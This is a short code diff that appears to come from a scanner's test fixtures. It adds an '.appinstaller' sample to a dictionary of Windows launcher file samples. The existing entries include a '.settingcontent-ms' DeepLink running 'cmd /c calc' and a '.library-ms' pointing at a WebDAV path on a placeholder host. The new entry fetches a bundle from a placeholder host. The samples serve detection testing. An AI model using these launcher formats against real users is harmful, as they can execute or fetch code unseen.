@@ -249,6 +249,8 @@ launchers = {
     "a.library-ms": b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
     b"<url>\\\\h@SSL\\DavWWWRoot</url></libraryDescription>",
     "a.settingcontent-ms": b"<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>",
+    "a.appinstaller": b'<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Uri="https://h/a">'
+    b'<MainBundle Uri = \'http://h/b.msixbundle\'/></AppInstaller>',
 }
 uu = {
     "uu.txt": b"hi\nbegin 644 a.txt\n#0V%T\n`\nend\nbegin-base64 644 b\naGVsbG8=\n====\n",
